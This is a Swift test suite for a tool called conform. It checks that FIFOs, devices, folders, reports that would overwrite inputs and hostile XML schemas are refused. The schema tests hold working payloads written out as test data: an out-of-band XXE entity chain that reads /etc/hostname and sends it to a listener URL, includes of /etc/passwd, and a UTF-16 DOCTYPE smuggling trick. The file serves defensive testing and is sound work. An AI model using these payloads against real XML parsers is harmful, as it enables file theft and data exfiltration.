import Foundation
import Testing

@testable import ConformKit
@testable import conform

/// Files are untrusted: a suite, a schema or a report path that names a FIFO, a device, a socket or a
/// folder is refused with exit status 2 before anything is opened or sent; a report never replaces a file
/// conform was given to read; a hostile XSD reads nothing and reaches nothing.
@Suite(.temporaryDirectories) struct HostileFilesTests {
    private static let pitchpoint = TestPaths.suite("pitchpoint.json")

    @Test func aSuiteThatIsAFIFOOrAFolderIsRefusedWithoutWaiting() async throws {
        let folder = TestPaths.temporaryDirectory()
        let pipe = try TestPaths.fifo(in: folder, named: "suite.json")
        let (outcome, requests) = try await StartedMock.runCounting([pipe, folder.path])
        #expect(outcome.status == .invalid)
        #expect(requests == 0)
        #expect(
            outcome.stderr == """
                \(pipe): error: cannot read the suite file: it is a FIFO (named pipe), not a regular file
                \(folder.path): error: cannot read the suite file: it is a folder, not a regular file

                """)
    }

    @Test func aSchemaThatIsAFIFOIsRefusedWithoutWaiting() async throws {
        let folder = TestPaths.temporaryDirectory()
        _ = try TestPaths.fifo(in: folder, named: "token.xsd")
        let suite = folder.appendingPathComponent("suite.json").path
        try Data(Self.xmlSuite(schema: "token.xsd").utf8).write(to: URL(fileURLWithPath: suite))
        let (outcome, requests) = try await StartedMock.runCounting([suite])
        #expect(outcome.status == .invalid)
        #expect(requests == 0)
        #expect(
            outcome.stderr.contains(
                "error: cannot use XML schema 'token.xsd': \(folder.path)/token.xsd: it is a FIFO (named pipe), not a regular file"
            ))
    }

    @Test(arguments: ["/dev/null", "FIFO", "FOLDER"])
    func aReportPathThatIsNotARegularFileIsRefusedBeforeSending(kind: String) async throws {
        let folder = TestPaths.temporaryDirectory()
        let path: String
        let words: String
        switch kind {
        case "FIFO":
            path = try TestPaths.fifo(in: folder, named: "report.xml")
            words = "a FIFO (named pipe)"
        case "FOLDER":
            path = folder.path
            words = "a folder"
        default:
            path = kind
            words = "a character device"
        }
        for option in ["junit", "html"] {
            let (outcome, requests) = try await StartedMock.runCounting([Self.pitchpoint]) {
                if option == "junit" { $0.junitPath = path } else { $0.htmlReportPath = path }
            }
            #expect(outcome.status == .invalid)
            #expect(requests == 0)
            #expect(
                outcome.stderr
                    == "conform: error: cannot write the report \(path): it is \(words); reports are written to regular files only\n"
            )
        }
        var status = stat()
        #expect(stat("/dev/null", &status) == 0 && status.st_mode & S_IFMT == S_IFCHR)
    }

    @Test func aSymbolicLinkIsWrittenThroughAndStaysALink() async throws {
        let folder = TestPaths.temporaryDirectory()
        let target = folder.appendingPathComponent("real.xml").path
        try Data("old".utf8).write(to: URL(fileURLWithPath: target))
        try #require(chmod(target, 0o640) == 0)
        let link = folder.appendingPathComponent("link.xml").path
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: target)
        let (outcome, _) = try await StartedMock.runCounting([Self.pitchpoint]) { $0.junitPath = link }
        #expect(outcome.status == .passed)
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: link) == target)
        let written = try #require(FileManager.default.contents(atPath: target))
        #expect(JUnitSchemas.problems(written) == [])
        var status = stat()
        #expect(stat(target, &status) == 0 && status.st_mode & 0o777 == 0o640)
    }

    @Test func aReportThatIsAnInputOrAnotherReportIsRefused() async throws {
        let folder = TestPaths.temporaryDirectory()
        let suite = folder.appendingPathComponent("suite.json").path
        try FileManager.default.copyItem(atPath: Self.pitchpoint, toPath: suite)
        let before = try #require(FileManager.default.contents(atPath: suite))
        let (outcome, requests) = try await StartedMock.runCounting([suite]) {
            $0.junitPath = suite
            $0.htmlReportPath = folder.appendingPathComponent("../\(folder.lastPathComponent)/suite.json").path
        }
        #expect(outcome.status == .invalid)
        #expect(requests == 0)
        #expect(
            outcome.stderr == """
                conform: error: --junit \(suite) is \(suite), an input of this run: conform would replace it
                conform: error: --report-html \(folder.path)/../\(folder.lastPathComponent)/suite.json is \(suite), an input of this run: conform would replace it

                """)
        #expect(FileManager.default.contents(atPath: suite) == before)

        let html = folder.appendingPathComponent("same.xml").path
        let (twice, sent) = try await StartedMock.runCounting([Self.pitchpoint]) {
            $0.junitPath = html
            $0.htmlReportPath = html
        }
        #expect(twice.status == .invalid)
        #expect(sent == 0)
        #expect(
            twice.stderr
                == "conform: error: --report-html \(html) is also --junit \(html): one report would replace the other\n"
        )
    }

    /// In GitHub Actions conform appends its summary to `$GITHUB_STEP_SUMMARY`, which holds the earlier
    /// steps' summaries: a report written there would replace them, then get Markdown after its end.
    @Test func aReportThatIsTheGitHubStepSummaryIsRefused() async throws {
        let folder = TestPaths.temporaryDirectory()
        let summary = folder.appendingPathComponent("step_summary.md").path
        let earlier = "## build\n\nThe earlier steps' summary.\n"
        try Data(earlier.utf8).write(to: URL(fileURLWithPath: summary))
        let symbolicLink = folder.appendingPathComponent("page.html").path
        try FileManager.default.createSymbolicLink(atPath: symbolicLink, withDestinationPath: summary)
        let hardLink = folder.appendingPathComponent("run.har").path
        try FileManager.default.linkItem(atPath: summary, toPath: hardLink)
        let mock = try await StartedMock.start("pitchpoint")
        let arguments = { (options: inout RunOptions) in
            options.baseURL = mock.baseURL
            options.junitPath = summary
            options.htmlReportPath = symbolicLink
            options.harPath = hardLink
        }
        let github = mock.environment.merging(["GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": summary]) { $1 }
        let outcome = await runConform([Self.pitchpoint], arguments: arguments, environment: github)
        let expected = [summary, symbolicLink, hardLink].enumerated().map { index, path in
            "conform: error: \(["--junit", "--report-html", "--har"][index]) \(path) is \(summary), the GitHub step summary ($GITHUB_STEP_SUMMARY): conform would replace it\n"
        }.joined()
        #expect(outcome.status == .invalid)
        #expect(mock.recorder.requestCount == 0)
        #expect(outcome.stderr == expected)
        #expect(FileManager.default.contents(atPath: summary) == Data(earlier.utf8))
        var options = RunOptions(suitePaths: [Self.pitchpoint])
        arguments(&options)
        let lintErrors = BufferedOutput()
        #expect(ConformLint.run(options, environment: github, output: BufferedOutput(), errors: lintErrors, diagnostics: DiagnosticPrinter(output: lintErrors)) == .invalid)
        #expect(lintErrors.text == expected)
        // Outside GitHub Actions conform writes no step summary: the file is a report like any other.
        let plain = await runConform(
            [Self.pitchpoint],
            arguments: {
                $0.baseURL = mock.baseURL; $0.junitPath = summary
            }, environment: mock.environment)
        await mock.server.stop()
        #expect(plain.status == .passed)
        #expect(JUnitSchemas.problems(plain.report) == [])
    }

    @Test func mergeRefusesToWriteOverOneOfItsInputs() throws {
        let folder = TestPaths.temporaryDirectory()
        let input = folder.appendingPathComponent("a.xml").path
        let report = try JUnitWriter.document(for: [])
        try report.write(to: URL(fileURLWithPath: input))
        let errors = BufferedOutput()
        let status = ConformMerge.run(inputs: [input], output: input, console: BufferedOutput(), errors: errors, diagnostics: DiagnosticPrinter(output: errors))
        #expect(status == .invalid)
        #expect(
            errors.text
                == "conform: error: --junit \(input) is \(input), an input of this run: conform would replace it\n")
        #expect(FileManager.default.contents(atPath: input) == report)
    }

    // MARK: Hostile schemas

    private static func xmlSuite(schema: String) -> String {
        """
        {"format": 1, "name": "xml", "cases": [
          {"name": "a", "request": {"method": "GET", "path": "/a"},
           "expect": {"status": 200, "body": {"xml_schema": "\(schema)"}}}
        ]}
        """
    }

    /// Lints a suite whose schema is `text`, with `files` beside it; returns what lint printed and how many
    /// requests a listener on loopback (named in the schema as `LISTENER`) received.
    private func lintSchema(
        _ text: String, files: [String: String] = [:], bytes: [String: Data] = [:]
    ) async throws -> (String, Int) {
        let folder = TestPaths.temporaryDirectory()
        let listener = RecordingEndpoint(
            FixedEndpoint(response: .full(status: .ok, contentType: "text/plain", body: Data())))
        let server = try await MockServer.start(listener, configuration: MockConfiguration())
        let schemaText = text.replacingOccurrences(of: "LISTENER", with: server.baseURL.absoluteString)
        try Data(schemaText.utf8).write(to: folder.appendingPathComponent("token.xsd"))
        for (name, content) in files {
            try Data(content.utf8).write(to: folder.appendingPathComponent(name))
        }
        for (name, content) in bytes { try content.write(to: folder.appendingPathComponent(name)) }
        let suite = folder.appendingPathComponent("suite.json").path
        try Data(Self.xmlSuite(schema: "token.xsd").utf8).write(to: URL(fileURLWithPath: suite))
        let errors = BufferedOutput()
        var options = RunOptions(suitePaths: [suite])
        options.baseURL = "http://127.0.0.1:9"
        _ = ConformLint.run(options, environment: [:], output: BufferedOutput(), errors: errors, diagnostics: DiagnosticPrinter(output: errors))
        try await Task.sleep(for: .milliseconds(100))
        await server.stop()
        return (errors.text.replacingOccurrences(of: folder.path, with: "DIR"), listener.requestCount)
    }

    @Test func aSchemaWithADoctypeIsRefusedAndReachesNothing() async throws {
        // Parameter entities that read a local file and send it to a URL (out-of-band XXE).
        let (errors, requests) = try await lintSchema(
            """
            <?xml version="1.0"?>
            <!DOCTYPE xs:schema [
              <!ENTITY % file SYSTEM "file:///etc/hostname">
              <!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM 'LISTENER/?%file;'>">
              %wrap; %send;
            ]>
            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="Token"/></xs:schema>
            """)
        #expect(requests == 0)
        #expect(
            errors
                == "DIR/suite.json:3:53: error: cannot use XML schema 'token.xsd': document type declarations are not accepted in a schema\n"
        )
    }

    @Test func includesOutsideTheSuitesFolderAndURLsAreRefused() async throws {
        let (outside, _) = try await lintSchema(
            """
            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
              <xs:include schemaLocation="/etc/passwd"/>
              <xs:element name="Token"/>
            </xs:schema>
            """)
        #expect(
            outside
                == "DIR/suite.json:3:53: error: cannot use XML schema 'token.xsd': include or import refused: /etc/passwd: outside the suite's folder\n"
        )
        let (remote, requests) = try await lintSchema(
            """
            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
              <xs:import namespace="urn:x" schemaLocation="LISTENER/remote.xsd"/>
              <xs:element name="Token"/>
            </xs:schema>
            """)
        #expect(requests == 0)
        #expect(remote.contains("/remote.xsd: only files in the suite's folder can be included, not URLs\n"))
    }

    /// A schema that includes `part` from the suite's folder, as `lint` reports it.
    private func lintIncluding(_ part: String) async throws -> String {
        try await lintSchema(
            """
            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
              <xs:include schemaLocation="part.xsd"/>
            </xs:schema>
            """,
            files: ["part.xsd": part]
        ).0
    }

    @Test func anIncludedSchemaWithADoctypeIsRefused() async throws {
        let errors = try await lintIncluding(
            """
            <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="Token"/></xs:schema>
            """)
        #expect(errors.contains("DIR/part.xsd: document type declarations are not accepted in a schema"))
    }

    /// UTF-16 without a byte-order mark is valid UTF-8 (ASCII and NULs), and its DOCTYPE is not the bytes
    /// `<!DOCTYPE`: such an include passed the old byte checks, and libxml2 then read it as UTF-16, with
    /// entity substitution on. An included schema now passes the top-level rule: UTF-8, no DOCTYPE.
    @Test func anIncludedSchemaInUTF16IsRefused() async throws {
        let part = """
            <?xml version="1.0" encoding="UTF-16"?>
            <!DOCTYPE xs:schema [<!ENTITY name "Leaked">]>
            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="&name;"/></xs:schema>
            """
        let (errors, _) = try await lintSchema(
            """
            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
              <xs:include schemaLocation="part.xsd"/>
            </xs:schema>
            """,
            bytes: ["part.xsd": part.data(using: .utf16LittleEndian) ?? Data()])
        #expect(
            errors
                == "DIR/suite.json:3:53: error: cannot use XML schema 'token.xsd': include or import refused: DIR/part.xsd: not UTF-8\n"
        )
    }

    /// A schema that includes a file of the suite's folder that is not XML, here the run's own `--var-file`:
    /// libxml2's default handler printed a line of it, secret included, with its absolute path, to standard
    /// error. Every message of libxml2 now goes into conform's diagnostic, through the output boundary.
    @Test func anIncludeOfAFileThatIsNotXMLShowsNothingOfIt() async throws {
        let folder = TestPaths.temporaryDirectory()
        try Data("API_SECRET=hunter2-include-secret\n".utf8).write(to: folder.appendingPathComponent("vars.env"))
        try Data(
            """
            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
              <xs:include schemaLocation="vars.env"/>
            </xs:schema>
            """.utf8
        ).write(to: folder.appendingPathComponent("token.xsd"))
        let suite = Self.xmlSuite(schema: "token.xsd").replacingOccurrences(
            of: #""name": "xml","#,
            with: #""name": "xml", "variables": {"API_SECRET": {"value": "${env:API_SECRET}", "secret": true}},"#)
        try Data(suite.utf8).write(to: folder.appendingPathComponent("suite.json"))
        let run = try await ConformBinary.run(
            ["lint", "suite.json", "--base-url", "http://127.0.0.1:9", "--var-file", "vars.env"], in: folder)
        #expect(run.status == 2)
        let real = folder.resolvingSymlinksInPath().path
        #expect(
            run.stderr.replacingOccurrences(of: real, with: "DIR").replacingOccurrences(of: folder.path, with: "DIR")
                == "suite.json:3:53: error: cannot use XML schema 'token.xsd': include or import refused: DIR/vars.env: "
                + "not well-formed XML: line 1: Start tag expected, '<' not found\n")
        #expect(!run.stderr.contains("hunter2"))
    }

    /// libxml2 reads an include with a parser of its own making, whose messages went to its default handler
    /// (standard error) even when conform accepted the file: here a warning for XML 1.1. They now go to the
    /// schema's diagnostic with the schema parser's own.
    @Test func theMessagesOfAnIncludesParserAreInTheDiagnostic() async throws {
        let folder = TestPaths.temporaryDirectory()
        try Data(
            #"<?xml version="1.1"?><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="T" type="Missing"/></xs:schema>"#
                .utf8
        ).write(to: folder.appendingPathComponent("part.xsd"))
        try Data(
            #"<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="part.xsd"/></xs:schema>"#
                .utf8
        ).write(to: folder.appendingPathComponent("token.xsd"))
        try Data(Self.xmlSuite(schema: "token.xsd").utf8).write(to: folder.appendingPathComponent("suite.json"))
        let run = try await ConformBinary.run(["lint", "suite.json", "--base-url", "http://127.0.0.1:9"], in: folder)
        #expect(run.status == 2)
        #expect(
            run.stderr
                == "suite.json:3:53: error: cannot use XML schema 'token.xsd': line 1: Unsupported version '1.1'; line 1: "
                + "element decl. 'T', attribute 'type': The QName value 'Missing' does not resolve to a(n) type definition.\n"
        )
    }

    @Test func anIncludeInTheSuitesFolderWorks() async throws {
        let errors = try await lintIncluding(
            #"<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="Token"/></xs:schema>"#)
        #expect(errors == "")
    }
}
